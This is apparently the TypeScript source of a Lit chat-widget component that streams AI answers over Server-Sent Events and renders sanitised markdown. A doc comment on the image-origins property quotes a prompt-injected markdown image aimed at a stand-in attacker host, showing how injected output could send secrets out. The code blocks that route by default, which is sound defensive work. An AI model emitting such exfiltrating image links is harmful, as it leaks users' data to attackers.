import { LitElement, html, nothing, svg } from 'lit';
import type { PropertyValues, TemplateResult } from 'lit';
import { property, query } from 'lit/decorators.js';
import { ChatState, ChatStreamController, deriveStopEndpoint } from '../../controllers/chat-stream-controller.js';
import { AiChatCloseEvent } from '../../events/ai-chat-close-event.js';
import { AiChatDoneEvent } from '../../events/ai-chat-done-event.js';
import { AiChatOpenEvent } from '../../events/ai-chat-open-event.js';
import { AiChatErrorEvent } from '../../events/ai-chat-error-event.js';
import { AiChatRetryEvent } from '../../events/ai-chat-retry-event.js';
import { AiChatSendEvent } from '../../events/ai-chat-send-event.js';
import { AiChatStateEvent } from '../../events/ai-chat-state-event.js';
import { AiChatTokenEvent } from '../../events/ai-chat-token-event.js';
import { enhanceMarkdown } from '../../markdown/enhance-markdown.js';
import type { StreamingMarkdownOptions } from '../../markdown/streaming-markdown.js';
import { Route } from '../../protocol.js';
import type { ChatMessage } from '../../types/chat-message.js';
import { aiChatStyles } from './ai-chat.styles.js';
import { LangController } from '../../i18n/lang-controller.js';
import { errorStringKey } from '../../i18n/error-string-key.js';
import type { ChatStreamError } from '../../client/sse-client.js';
import { PersistController } from '../../persist/persist-controller.js';
import { markdown } from './markdown-directive.js';
import type { AiChatStrings } from './default-strings.js';

/** Extra request headers, or a (possibly async) function returning them, called once per request. */
export type AiChatHeaders = Record<string, string> | (() => Record<string, string> | Promise<Record<string, string>>);

/**
 * @summary A chat panel that streams AI answers over Server-Sent Events and renders them as sanitised markdown.
 *
 * @attr {string} lang - The standard global attribute: picks the built-in strings (`zh*` → Simplified Chinese, else
 *   English). Inherited from the nearest ancestor with `lang`, then `<html lang>`; changes apply at once.
 * @attr {'light' | 'dark'} theme - Forces the light or dark default colours. Default: none, i.e. the visitor's
 *   `prefers-color-scheme`. Any other value counts as none.
 * @attr {'end' | 'start'} launcher-position - The side the launcher and its panel float on: `end` (default; the
 *   right in a left-to-right page, the left in a right-to-left one) or `start`. Distance from the corner: the
 *   `--ai-chat-launcher-offset-x/-y` properties. Any other value counts as `end`.
 * @attr {string} dir - The standard global attribute, inherited from the page: `rtl` mirrors the layout.
 *
 * @fires {AiChatSendEvent} ai-chat-send - Before a message is sent; cancelable. `detail.message` is the text.
 * @fires {AiChatTokenEvent} ai-chat-token - For every token appended. `detail.token`, `detail.messageId`.
 * @fires {AiChatDoneEvent} ai-chat-done - When an answer completes or is stopped. `detail.message`.
 * @fires {AiChatErrorEvent} ai-chat-error - When a request or stream fails. `detail.error` (the text shown),
 *   `detail.fatal`, `detail.cause` (the `ChatStreamError`: `kind`, `status`, `code`, `fromServer`).
 * @fires {AiChatRetryEvent} ai-chat-retry - When a reconnect is scheduled. `detail.attempt`, `detail.delay`.
 * @fires {AiChatStateEvent} ai-chat-state - When the connection state changes. `detail.state`.
 * @fires {AiChatOpenEvent} ai-chat-open - When the launcher's panel opens. `detail.unread`: answers the badge showed.
 * @fires {AiChatCloseEvent} ai-chat-close - When the launcher's panel closes (Escape, a button, or `open` set).
 *
 * @slot header - Extra content in the header, after the heading.
 * @slot empty - The welcome shown in the log while there are no messages (default: `strings.empty`). Any element in
 *   it with a `data-suggestion` attribute is a suggested question: a click sends the attribute's value, or the
 *   element's text when the value is empty (`<button data-suggestion>How do I install it?</button>`).
 * @slot footer - A line under the composer, e.g. a disclaimer.
 *
 * @csspart panel - The chat panel (in launcher mode, the floating window).
 * @csspart header - The header bar.
 * @csspart heading - The heading text.
 * @csspart close - The close button (launcher mode only).
 * @csspart log - The scrolling message list (`role="log"`).
 * @csspart empty - The placeholder shown while there are no messages.
 * @csspart message - Every message bubble.
 * @csspart user - A user message bubble.
 * @csspart assistant - An assistant message bubble (rendered markdown).
 * @csspart code-block - A code block in an answer: language label, copy button and the `<pre>`.
 * @csspart code-language - The language label of a code block (from the fence info string).
 * @csspart copy-button - The "Copy code" button of a code block.
 * @csspart table - The horizontally scrolling box around a table in an answer.
 * @csspart status - The note under an answer that was stopped or failed.
 * @csspart reconnecting - "Reconnecting…", shown while a dropped stream waits to resume.
 * @csspart retry - The Retry button in the error, shown when a failed answer can be resumed.
 * @csspart thinking - The progress indicator shown before the first token.
 * @csspart sources - The list of sources under an answer.
 * @csspart source - One source link.
 * @csspart error - The in-widget error message (`role="alert"`).
 * @csspart composer - The form holding the input and buttons.
 * @csspart input - The message textarea.
 * @csspart send - The send button.
 * @csspart stop - The stop button, shown while an answer streams.
 * @csspart launcher - The floating button that opens the panel (launcher mode only).
 * @csspart launcher-badge - The count of answers that finished while the panel was closed, on the launcher.
 * @csspart footer - The box around the `footer` slot.
 *
 * @cssprop [--ai-chat-accent=#2563eb] - Accent: send button, launcher, links, focus rings (dark: #93c5fd).
 * @cssprop [--ai-chat-on-accent=#fff] - Text and icon colour on the accent (dark: #0f172a).
 * @cssprop [--ai-chat-bg=#fff] - Panel and input background (dark: #0f172a).
 * @cssprop [--ai-chat-surface=#f8fafc] - Header, composer and footer background (dark: #1e293b).
 * @cssprop [--ai-chat-text=#0f172a] - Text colour (dark: #e2e8f0).
 * @cssprop [--ai-chat-muted=#475569] - Secondary text, placeholder, input and button edges (dark: #94a3b8).
 * @cssprop [--ai-chat-border=#e2e8f0] - Separator lines (dark: #334155).
 * @cssprop [--ai-chat-error=#b91c1c] - Error text (dark: #fca5a5).
 * @cssprop [--ai-chat-user-bg=#dbeafe] - User bubble background (dark: #1e3a8a); its text: `::part(user)`.
 * @cssprop [--ai-chat-assistant-bg=#f1f5f9] - Assistant bubble background (dark: #1e293b).
 * @cssprop [--ai-chat-font=system-ui, -apple-system, 'Segoe UI', Roboto, sans-serif] - Font family (never loaded).
 * @cssprop [--ai-chat-font-size=15px] - Base text size; the input and buttons never go below 16px (iOS zoom).
 * @cssprop [--ai-chat-radius=12px] - Corner radius of the panel and bubbles.
 * @cssprop [--ai-chat-spacing=12px] - Padding of the header, log, bubbles and composer, and the gap between messages.
 * @cssprop [--ai-chat-shadow=0 12px 40px rgb(15 23 42 / 0.18)] - Shadow of the launcher and its panel.
 * @cssprop [--ai-chat-z-index=2147483000] - Stacking order of the launcher and its panel.
 * @cssprop [--ai-chat-launcher-offset-x=20px] - Distance of the launcher (and panel) from the side of the viewport.
 * @cssprop [--ai-chat-launcher-offset-y=20px] - Distance of the launcher from the bottom of the viewport.
 */
export class AiChat extends LitElement {
  static override styles = aiChatStyles;

  /** URL the question is POSTed to; the answer streams back as SSE. */
  @property() endpoint: string = Route.stream;

  /**
   * Sent as `conversation_id`. Default: a random id per element; with `persist`, one kept in `localStorage`
   * (`ai-chat:conversation-id`, shared by the origin's pages) so a reload continues the conversation.
   */
  @property({ attribute: 'conversation-id' }) conversationId: string | undefined;

  /** Title shown in the header; defaults to `strings.heading` ("Ask the docs"). */
  @property() heading: string | undefined;

  /** Placeholder of the input; defaults to `strings.placeholder`. */
  @property() placeholder: string | undefined;

  /** `inline` renders the panel in place; `launcher` renders a floating button that opens it. */
  @property({ reflect: true }) mode: 'inline' | 'launcher' = 'inline';

  /** Whether the launcher panel is open (launcher mode only). */
  @property({ type: Boolean, reflect: true }) open = false;

  /** How many times a broken stream is retried before giving up. */
  @property({ type: Number, attribute: 'max-retries' }) maxRetries = 3;

  /** Base delay in ms before a retry. */
  @property({ type: Number, attribute: 'retry-delay' }) retryDelay = 1000;

  /** A stream silent for this long (ms) counts as broken; `0` turns the check off. */
  @property({ type: Number, attribute: 'heartbeat-timeout' }) heartbeatTimeout = 45000;

  /** URL that is told to stop generating; derived from `endpoint` (`…/stream` → `…/stop`) when not set. */
  @property({ attribute: 'stop-endpoint' }) stopEndpoint: string | undefined;

  /**
   * Origins whose images may load inside answers, space-separated (`self` = the page's origin). Default: none, so a
   * prompt-injected `![](https://evil.example/?q=secret)` is shown as a link and never fetched (docs/security.md).
   */
  @property({
    attribute: 'image-origins',
    converter: {
      fromAttribute: (value: string | null) => (value ?? '').split(/\s+/).filter(Boolean),
      toAttribute: (value: string[]) => value.join(' '),
    },
  })
  imageOrigins: string[] = [];

  /**
   * Keeps the conversation in `localStorage` (`ai-chat:v1:<conversation-id>`) and restores it on load. Default off.
   * Where storage is blocked or full the widget works, unpersisted; bad saved data is ignored (docs/embedding.md).
   */
  @property({ type: Boolean }) persist = false;

  /** Connection state: `idle`, `connecting`, `streaming`, `retrying` or `error`. Read-only; reflected. */
  @property({ reflect: true }) state: ChatState = ChatState.idle;

  /** Extra request headers (e.g. `Authorization`), or a (possibly async) function returning them. */
  @property({ attribute: false }) headers: AiChatHeaders | undefined;

  /** Overrides of the UI text; other keys come from the table of the element's `lang` (inherited; default English). */
  @property({ attribute: false }) strings: Partial<AiChatStrings> = {};

  @query('textarea') private input!: HTMLTextAreaElement;
  @query('[part~="log"]') private log!: HTMLElement;
  @query('[part~="launcher"]') private launcherButton: HTMLButtonElement | null | undefined;
  @query('[part~="panel"]') private panel: HTMLElement | null | undefined;

  #lang = new LangController(this);
  #persist = new PersistController(this);
  /** Whether the log was scrolled to (near) the bottom before the last markdown render. */
  #following = true;
  /** Answers that finished while the launcher's panel was closed: the number on the launcher's badge. */
  /** The copy-button label last applied to the rendered answers. */
  #copyLabel = '';
  #unread = 0;
  /** Whether focus was inside when the panel began to close: only then does it go back to the launcher. */
  #focusWasIn = false;
  /** True for a moment after `compositionend`: Safari sends the Enter that ends a composition after it. */
  #composed = false;
  /** Options of every assistant bubble's markdown renderer: copy buttons and table scroll boxes after sanitising. */
  #rendererOptions: StreamingMarkdownOptions = {
    enhance: (fragment) => enhanceMarkdown(fragment, () => this.#strings),
  };

  #chat = new ChatStreamController(
    this,
    () => ({
      endpoint: this.endpoint,
      stopEndpoint: this.stopEndpoint || deriveStopEndpoint(this.endpoint),
      conversationId: this.#persist.conversationId,
      headers: () => this.#resolveHeaders(),
      maxRetries: this.maxRetries,
      retryDelay: this.retryDelay,
      heartbeatTimeout: this.heartbeatTimeout,
    }),
    {
      onState: (state) => this.dispatchEvent(new AiChatStateEvent({ state })),
      onToken: (token, messageId) => this.dispatchEvent(new AiChatTokenEvent({ token, messageId })),
      onDone: (message) => {
        if (this.mode === 'launcher' && !this.open && message.status === 'completed') this.#unread++;
        this.dispatchEvent(new AiChatDoneEvent({ message }));
      },
      onError: (cause, fatal) =>
        this.dispatchEvent(new AiChatErrorEvent({ error: this.#errorText(cause, this.#strings), fatal, cause })),
      onRetry: (attempt, delay) => this.dispatchEvent(new AiChatRetryEvent({ attempt, delay })),
    },
  );

  /** The conversation. `content` is raw markdown; setting it renders that history (and stops a running answer). */
  @property({ attribute: false })
  get messages(): ChatMessage[] {
    return this.#chat.messages;
  }
  set messages(value: ChatMessage[]) {
    this.#chat.setMessages(Array.isArray(value) ? value : []);
  }

  /** Sends `text` as the user and streams the answer. Resolves when the answer ends (or at once if cancelled). */
  async send(text: string): Promise<void> {
    const message = text.trim();
    if (!message) return;
    if (!this.dispatchEvent(new AiChatSendEvent({ message }))) return;
    await this.#chat.send(message);
  }

  /** Stops the answer being streamed; the partial text stays, marked stopped. */
  stop(): void {
    this.#chat.stop();
  }

  /**
   * Resumes the last answer that failed after its retries ran out, with the same `message_id` and the id of the last
   * event shown: the server continues it, or answers again in its place. The question is not sent a second time.
   */
  retry(): Promise<void> {
    return this.#chat.retry();
  }

  /** Stops any answer and empties the conversation; with `persist`, forgets the kept copy too. */
  clear(): void {
    this.#chat.clear();
    this.#persist.clear();
  }

  constructor() {
    super();
    // On the host, so Escape works from any control, the launcher and slotted content included.
    this.addEventListener('keydown', this.handleEscape);
  }

  override connectedCallback(): void {
    super.connectedCallback();
    window.visualViewport?.addEventListener('resize', this.handleViewport);
    window.visualViewport?.addEventListener('scroll', this.handleViewport);
  }

  override disconnectedCallback(): void {
    super.disconnectedCallback();
    window.visualViewport?.removeEventListener('resize', this.handleViewport);
    window.visualViewport?.removeEventListener('scroll', this.handleViewport);
  }

  protected override willUpdate(changed: PropertyValues<this>): void {
    // The controller owns the state; mirroring it here reflects it as an attribute.
    this.state = this.#chat.state;
    // Read by every block render; blocks already rendered keep the policy they were rendered with.
    if (changed.has('imageOrigins')) this.#rendererOptions.markdown = { imageOrigins: this.imageOrigins };
    // Before the panel is hidden: once it is, the browser drops focus to <body> and the question can't be asked.
    if (changed.has('open') && !this.open) this.#focusWasIn = this.matches(':focus-within');
  }

  protected override updated(changed: PropertyValues<this>): void {
    // Copy buttons are built outside Lit's templates (after sanitising): relabel them when the language changes.
    const copyLabel = this.#strings.copyCode;
    if (copyLabel !== this.#copyLabel) {
      this.#copyLabel = copyLabel;
      for (const b of this.renderRoot.querySelectorAll('[part~="copy-button"]:not([data-state])'))
        b.textContent = copyLabel;
    }
    // Follow the answer as it grows, unless the reader scrolled up to read something earlier.
    const log = this.log;
    if (log && log.scrollHeight - log.scrollTop - log.clientHeight < 120) log.scrollTop = log.scrollHeight;
    // `undefined` before is the first render: an element that starts open neither takes focus nor fires.
    if (changed.has('open') && changed.get('open') !== undefined && this.mode === 'launcher') {
      if (this.open) {
        this.input.focus();
        this.dispatchEvent(new AiChatOpenEvent({ unread: this.#unread }));
        this.#unread = 0;
      } else {
        if (this.#focusWasIn) this.launcherButton?.focus();
        this.dispatchEvent(new AiChatCloseEvent());
      }
    }
  }

  async #resolveHeaders(): Promise<Record<string, string>> {
    const headers = typeof this.headers === 'function' ? await this.headers() : this.headers;
    return { ...headers };
  }

  /** The server's own words as sent, else the widget's text for the situation in the reader's language. */
  #errorText(error: ChatStreamError, s: AiChatStrings): string {
    return error.fromServer ? error.message : s[errorStringKey(error)];
  }

  get #strings(): AiChatStrings {
    return { ...this.#lang.strings, ...this.strings };
  }

  #beforeMarkdown = (): void => {
    const log = this.log;
    this.#following = !log || log.scrollHeight - log.scrollTop - log.clientHeight < 120;
  };

  #afterMarkdown = (): void => {
    // Streaming answers grow between Lit updates (one render per frame): keep following them.
    const log = this.log;
    if (log && this.#following) log.scrollTop = log.scrollHeight;
  };

  private handleSubmit(event: SubmitEvent): void {
    event.preventDefault();
    this.#sendFromInput();
  }

  private handleKeydown(event: KeyboardEvent): void {
    // While an IME composes (CJK input), Enter confirms the composition; it must not send half a word. Chromium
    // flags that Enter `isComposing`; older engines give keyCode 229; Safari fires `compositionend` first and then
    // a keydown with `isComposing` false (https://bugs.webkit.org/show_bug.cgi?id=165004), hence `#composed`.
    if (event.key !== 'Enter' || event.shiftKey || event.isComposing || event.keyCode === 229 || this.#composed) return;
    event.preventDefault();
    this.#sendFromInput();
  }

  private handleCompositionEnd(): void {
    // Not just to the next task: Floating UI found 0-1 ms timers can fire before Safari's keydown. 20 ms is still far
    // shorter than the gap between two deliberate key presses.
    this.#composed = true;
    setTimeout(() => (this.#composed = false), 20);
  }

  /** Escape stops an answer; when there is none, it closes the launcher's panel. Not while an IME composes. */
  private handleEscape = (event: KeyboardEvent): void => {
    // Safari ends the composition before this keydown (isComposing false, keyCode 229): the Esc that cancels a
    // conversion must not also stop the answer or close the panel.
    if (event.key !== 'Escape' || event.isComposing || event.keyCode === 229 || this.#composed) return;
    if (this.#chat.busy) this.stop();
    else if (this.mode === 'launcher' && this.open) this.open = false;
    else return;
    event.preventDefault();
    event.stopPropagation();
  };

  /** The sheet follows the visual viewport, which the soft keyboard shrinks (used by the narrow-screen CSS only). */
  private handleViewport = (): void => {
    const viewport = window.visualViewport!;
    this.panel?.style.setProperty('--_vvh', `${viewport.height}px`);
    this.panel?.style.setProperty('--_vvt', `${viewport.offsetTop}px`);
  };

  /** A click on a `data-suggestion` element in the `empty` slot sends it as a question. */
  private handleSuggestion(event: Event): void {
    const suggestion = (event.target as Element).closest('[data-suggestion]');
    if (!suggestion) return;
    void this.send(suggestion.getAttribute('data-suggestion') || suggestion.textContent || '');
    // The suggestions go away with the empty log; keep keyboard focus in the widget instead of dropping it to <body>.
    this.input.focus();
  }

  private handleInput(): void {
    // Auto-grow for browsers without `field-sizing: content`; the CSS max-height caps it.
    const input = this.input;
    input.style.height = 'auto';
    input.style.height = `${input.scrollHeight + 2}px`;
  }

  private handleLauncherClick(): void {
    this.open = !this.open;
  }

  private handleClose(): void {
    this.open = false;
  }

  private handleRetry(): void {
    void this.retry();
  }

  private handleStop(): void {
    this.stop();
  }

  #sendFromInput(): void {
    const text = this.input.value;
    if (!text.trim()) return;
    this.input.value = '';
    this.input.style.height = '';
    void this.send(text);
  }

  override render(): TemplateResult {
    const s = this.#strings;
    const launcher = this.mode === 'launcher';
    const unread = this.open ? 0 : this.#unread;
    const last = this.messages.at(-1);
    // The one place progress is announced: never the tokens (see the log below). Errors are not repeated here, the
    // error part is a `role="alert"` already and would be read twice.
    const announcement = this.#chat.reconnecting
      ? s.reconnecting
      : this.#chat.busy
        ? s.generating
        : this.#chat.error || last?.role !== 'assistant'
          ? ''
          : last.status === 'stopped'
            ? s.stopped
            : s.answerComplete;
    return html`
      ${
        launcher
          ? html`<button
              part="launcher"
              type="button"
              aria-expanded=${this.open ? 'true' : 'false'}
              aria-controls="panel"
              aria-label=${
                this.open
                  ? s.closeChat
                  : unread
                    ? (unread > 1 ? s.openChatNewAnswers : s.openChatNewAnswer).replace('{n}', `${unread}`)
                    : s.openChat
              }
              @click=${this.handleLauncherClick}
            >
              <svg viewBox="0 0 24 24" fill="none" stroke="currentColor" stroke-width="2" aria-hidden="true">
                ${
                  this.open
                    ? svg`<path d="M6 6l12 12M18 6L6 18"></path>`
                    : svg`<path d="M21 12a8 8 0 0 1-11.6 7.1L4 21l1.9-5.4A8 8 0 1 1 21 12z"></path>`
                }
              </svg>
              ${unread ? html`<span part="launcher-badge">${unread}</span>` : nothing}
            </button>`
          : nothing
      }
      ${this.#renderPanel(s, launcher)}
      <div class="vh" role="status" aria-live="polite">${announcement}</div>
    `;
  }

  #renderPanel(s: AiChatStrings, launcher: boolean): TemplateResult {
    const busy = this.#chat.busy;
    const error = this.#chat.error;
    // The closed launcher panel stays in the DOM, hidden: a draft, the scroll position and rendered answers survive.
    // The log: role=log implies aria-live=polite (WAI-ARIA 1.2 §5.4 "log"), and aria-busy only says assistive
    // technology MAY hold changes back (§6.6 "aria-busy"); support is uneven, so tokens could be read one by one.
    // aria-live="off" guarantees they never are; the status region announces progress. aria-busy stays as state.
    return html`
      <section
        id="panel"
        part="panel"
        role=${launcher ? 'dialog' : 'region'}
        aria-labelledby="heading"
        ?hidden=${launcher && !this.open}
      >
        <header part="header">
          <h2 id="heading" part="heading">${this.heading ?? s.heading}</h2>
          <slot name="header"></slot>
          ${
            launcher
              ? html`<button part="close" type="button" aria-label=${s.closeChat} @click=${this.handleClose}>
                  ${s.close}
                </button>`
              : nothing
          }
        </header>
        <div
          part="log"
          role="log"
          aria-live="off"
          aria-busy=${busy ? 'true' : 'false'}
          tabindex="0"
          aria-label=${this.heading ?? s.heading}
        >
          ${
            this.messages.length === 0
              ? html`<div part="empty" @click=${this.handleSuggestion}><slot name="empty">${s.empty}</slot></div>`
              : // Messages are only appended or replaced wholesale, never reordered, so Lit's positional reuse keeps each
                // bubble's DOM (and its rendered blocks) without the keyed \`repeat\` directive (0.7 KB gzip).
                this.messages.map((m) => this.#renderMessage(m, s))
          }
          ${this.#renderThinking(s, busy)}
        </div>
        ${this.#chat.reconnecting ? html`<div part="reconnecting">${s.reconnecting}</div>` : nothing}
        ${error ? html`<div part="error" role="alert">${this.#errorText(error, s)}</div>` : nothing}
        ${
          error && this.#chat.canRetry
            ? html`<button part="retry" type="button" @click=${this.handleRetry}>${s.retry}</button>`
            : nothing
        }
        <form part="composer" @submit=${this.handleSubmit}>
          <textarea
            part="input"
            rows="1"
            aria-label=${s.inputLabel}
            placeholder=${this.placeholder ?? s.placeholder}
            @keydown=${this.handleKeydown}
            @compositionend=${this.handleCompositionEnd}
            @input=${this.handleInput}
          ></textarea>
          ${busy ? html`<button part="stop" type="button" @click=${this.handleStop}>${s.stop}</button>` : nothing}
          <button part="send" type="submit">${s.send}</button>
        </form>
        <div part="footer"><slot name="footer"></slot></div>
      </section>
    `;
  }

  #renderThinking(s: AiChatStrings, busy: boolean): TemplateResult | typeof nothing {
    const last = this.messages.at(-1);
    const waiting = busy && last?.role === 'assistant' && last.content === '';
    const text = this.#chat.thinking ?? (waiting ? s.thinking : undefined);
    return text ? html`<div part="thinking" role="status">${text}</div>` : nothing;
  }

  #renderMessage(m: ChatMessage, s: AiChatStrings): TemplateResult {
    if (m.role === 'user') {
      return html`<div class="turn user" part="message user" aria-label=${s.you}>${m.content}</div>`;
    }
    // Streaming starts with an empty answer; the thinking indicator stands in for it until the first token.
    if (m.content === '' && m.status === 'streaming') return html``;
    const note = m.status === 'stopped' ? s.stopped : m.status === 'error' ? s.failed : '';
    return html`
      <div class="turn assistant">
        <div
          part="message assistant"
          data-status=${m.status ?? 'completed'}
          ${markdown(m.content, {
            streaming: m.status === 'streaming',
            renderer: this.#rendererOptions,
            beforeRender: this.#beforeMarkdown,
            afterRender: this.#afterMarkdown,
          })}
        ></div>
        ${
          m.sources?.length
            ? html`<ol part="sources" aria-label=${s.sources}>
                ${m.sources.map(
                  (src) =>
                    html`<li>
                      ${
                        src.url && isSafeLink(src.url)
                          ? html`<a part="source" href=${src.url} target="_blank" rel="noopener noreferrer"
                              >${src.title}</a
                            >`
                          : html`<span part="source">${src.title}</span>`
                      }
                    </li>`,
                )}
              </ol>`
            : nothing
        }
        ${note ? html`<span part="status">${note}</span>` : nothing}
      </div>
    `;
  }
}

/** Source URLs come from the server's retrieval results: only http(s) and relative links become clickable. */
function isSafeLink(url: string): boolean {
  return /^https?:/i.test(url) || !/^[a-z][a-z0-9+.-]*:/i.test(url.trim());
}
